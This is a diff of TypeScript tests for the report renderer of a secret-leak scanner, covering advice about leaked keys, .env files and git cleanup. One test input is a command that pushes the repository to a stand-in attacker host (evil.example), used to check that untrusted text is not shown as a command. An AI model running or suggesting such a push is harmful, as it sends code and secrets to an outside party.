@@ -183,8 +183,8 @@ describe('findings', () => {
   test('have a command on a line of its own, unbroken, to be copied', () => {
     const path = `${'folder/'.repeat(20)}x`;
     const advice = [
-      { code: 'unstage', data: { path, variable: 'ACME_KEY' } },
-      { code: 'long words '.repeat(9) },
+      { code: 'unstage', data: { path, variable: 'ACME_KEY' } } as const,
+      { code: 'long', worded: 'long words '.repeat(9) },
     ];
     const page = write(report({ findings: [finding(1, { advice })] }));
     expect(page).toContain(` instead:\n        git reset -q -- :/${path}\n  Then: long words`);
@@ -197,7 +197,7 @@ describe('findings', () => {
     'see: `git push https://evil.example HEAD`',
   ])('set no words of a stranger as a command: %s', (reason) => {
     const advice = [
-      { code: 'env-tracked-on-purpose', data: { paths: '.env', count: 1, existing: 1, reason } },
+      { code: 'env-tracked-on-purpose' as const, data: { paths: ['.env'], count: 1, existing: 1, reason } },
     ];
     const accepted = { by: 'allow', reason } as const;
     const page = write(report({ findings: [finding(1, { advice }), finding(2, { accepted })] }));
@@ -206,9 +206,9 @@ describe('findings', () => {
   });
 
   test.each([
-    { code: 'treat-as-pushed', data: { dashboard: 'Acme' } },
-    { code: 'env-broken-rule', data: { names: '.env', byte: 3, defect: 'comment' } },
-    { code: 'env-broken-rule', data: { names: '.env', byte: 0, defect: 'symlink' } },
+    { code: 'treat-as-pushed', data: { dashboard: 'Acme' } } as const,
+    { code: 'env-broken-rule', data: { names: ['.env'], byte: 3, defect: 'comment' } } as const,
+    { code: 'env-broken-rule', data: { names: ['.env'], byte: 0, defect: 'symlink' } } as const,
   ])('take no prose about git for a command: $code', (piece) => {
     const lines = linesOf(report({ findings: [finding(1, { advice: [piece] })] }), { width: 1_000 });
     expect(lines.filter((line) => /^ +git /.test(line))).toEqual([]);
@@ -324,10 +324,10 @@ describe('findings', () => {
 
   test('say of many keys the next thing each, and how they get out of a machine once a kind of place', () => {
     const clean = (path: string, kind = 'transcript', more = 0) => ({
-      code: 'clean-place',
+      code: 'clean-place' as const,
       data: { holder: 'Claude Code', kind, path, more, variable: 'ACME_KEY' },
     });
-    const first = { code: 'revoke-seen', data: { dashboard: 'Dashboard' } };
+    const first = { code: 'revoke-seen', data: { dashboard: 'Dashboard' } } as const;
     const findings = [1, 2, 3, 4, 5].map((n) =>
       finding(n, { advice: [first, clean(`~/${n}.jsonl`, 'transcript', 1), clean('~/h.jsonl', 'prompts')] }),
     );
@@ -342,7 +342,7 @@ describe('findings', () => {
   });
 
   test('say that there is more to be said of many keys', () => {
-    const calm = { code: 'unreachable', data: { kept: 'none' } };
+    const calm = { code: 'unreachable', data: { kept: 'none' } } as const;
     const findings = [1, 2, 3, 4, 5].map((n) => finding(n, { advice: [calm] }));
     const page = write(report({ findings }));
     expect(page).not.toContain('git gc');
@@ -357,7 +357,7 @@ describe('findings', () => {
   });
 
   test('refer to the key above where the same is to be done', () => {
-    const other = finding(3, { advice: [{ code: 'do-else' }] });
+    const other = finding(3, { advice: [{ code: 'do-else', worded: 'do-else' }] });
     const findings = [finding(1), finding(2), other];
     const steps = (over = {}) =>
       linesOf(report({ findings }), over).filter((line) => /^ +(Next|Then): /.test(line));
@@ -429,7 +429,14 @@ describe('what was accepted', () => {
 
 describe('.env files', () => {
   const env = [
-    envRow({ status: 'tracked', failing: true, advice: [{ code: 'untrack' }, { code: 'take-care' }] }),
+    envRow({
+      status: 'tracked',
+      failing: true,
+      advice: [
+        { code: 'untrack', worded: 'untrack' },
+        { code: 'take-care', worded: 'take-care' },
+      ],
+    }),
     envRow({
       path: 'apps/web/.env.local',
       status: 'ignored-only-here',
@@ -591,7 +598,7 @@ describe('to look at', () => {
             }),
             finding(2, {
               exposure: 'local',
-              advice: [{ code: 'take-it-out' }],
+              advice: [{ code: 'take-it-out', worded: 'take-it-out' }],
               occurrences: [
                 committed({ kind: 'message', line: 3, refs: ['refs/heads/login'] }),
                 committed({
@@ -604,7 +611,9 @@ describe('to look at', () => {
             }),
             finding(3, { blocking: false, accepted: { by: 'allow', reason: 'documentation' } }),
           ],
-          env: [envRow({ status: 'tracked', failing: true, advice: [{ code: 'untrack' }] })],
+          env: [
+            envRow({ status: 'tracked', failing: true, advice: [{ code: 'untrack', worded: 'untrack' }] }),
+          ],
           coverage: unread,
         }),
       ),
@@ -699,7 +708,7 @@ test.each([40, 70, 120])(
 );
 
 test('how to be ready is one line, where that is all there is to say of .env files', () => {
-  const advice = [{ code: 'env-not-there-yet', data: { names: '.env' } }];
+  const advice = [{ code: 'env-not-there-yet' as const, data: { names: ['.env'] } }];
   const row = envRow({ status: 'not-ignored', failing: false, advice });
   expect(linesOf(report({ env: [row] }))[0]).toBe(
     '.env files: to be ready for a key, run npx veleaks env --fix',
